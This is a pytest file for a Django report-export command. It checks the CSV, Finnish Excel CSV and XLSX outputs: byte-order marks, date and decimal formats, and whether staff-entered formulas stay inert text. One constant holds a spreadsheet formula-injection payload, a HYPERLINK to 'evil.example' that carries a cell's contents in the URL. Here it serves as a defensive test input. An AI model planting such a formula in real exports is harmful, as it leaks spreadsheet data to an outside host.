"""``manage.py report --format csv|csv-fi|xlsx`` read back: the byte-order mark, staff-entered text
that looks like a formula stays text, meeting days are dates, the sheets are frozen and filterable."""

import csv
import io
import re
from datetime import datetime
from pathlib import Path

from django.core.management import call_command
from openpyxl import load_workbook  # type: ignore[import-untyped]

from conftest import World
from pilotti.recruitment.models import Enrolment
from tests.factories import build

FORMULA = '=HYPERLINK("https://evil.example/?"&A3,"Ohje")'


def _pilot_with_a_formula_segment(world: World) -> str:
    pilot = build(world, people=4)
    Enrolment.objects.filter(programme=pilot.programme).update(segment=FORMULA)  # as a coordinator could type it
    return pilot.programme.slug


def _run(slug: str, format: str, out: Path) -> bytes:
    call_command("report", slug, "--format", format, "--out", str(out))
    return out.read_bytes()


def test_the_report_csv_has_a_byte_order_mark_and_no_live_formula(world: World, tmp_path: Path) -> None:
    slug = _pilot_with_a_formula_segment(world)
    content = _run(slug, "csv", tmp_path / "report.csv")
    assert content.startswith(b"\xef\xbb\xbfview,table,row,column,value\r\n")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    segments = {r["value"] for r in rows if r["table"] == "recruitment_segments" and r["column"] == "segment"}
    assert f"'{FORMULA}" in segments
    assert not any(r["value"].startswith(("=", "+", "@")) for r in rows)
    days = [r["value"] for r in rows if r["table"] == "attendance_meetings" and r["column"] == "date"]
    assert days
    assert all(len(day) == 10 and day[4] == "-" for day in days)


def test_the_finnish_excel_csv_of_the_report(world: World, tmp_path: Path) -> None:
    slug = _pilot_with_a_formula_segment(world)
    content = _run(slug, "csv-fi", tmp_path / "report.csv")
    assert content.startswith(b"\xef\xbb\xbfview;table;row;column;value\r\n")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert any(re.fullmatch(r"-?\d+,\d+", r["value"]) for r in rows)  # decimal commas
    assert not [r["value"] for r in rows if re.fullmatch(r"-?\d+\.\d+", r["value"])]
    numbers = [r["value"] for r in rows if r["table"] == "attendance_meetings" and r["column"] == "present"]
    assert numbers
    assert all(n.isdigit() for n in numbers)  # whole numbers without ".0"
    days = [r["value"] for r in rows if r["table"] == "attendance_meetings" and r["column"] == "date"]
    assert all(day.count(".") == 2 and "-" not in day for day in days)  # 5.1.2026, which Excel (suomi) reads
    assert any(r["value"] == f"'{FORMULA}" for r in rows)


def test_the_report_workbook_stores_text_as_text_and_days_as_dates(world: World, tmp_path: Path) -> None:
    slug = _pilot_with_a_formula_segment(world)
    book = load_workbook(io.BytesIO(_run(slug, "xlsx", tmp_path / "report.xlsx")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert FORMULA in [cell.value for cell in book["recruitment_segments"]["A"]]
    days = [row[2] for row in book["attendance_meetings"].iter_rows(min_row=2, values_only=True)]
    assert days
    assert all(isinstance(day, datetime) for day in days)
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref
    assert book["recruitment_segments"].column_dimensions["A"].width > 8  # as wide as the segment's name
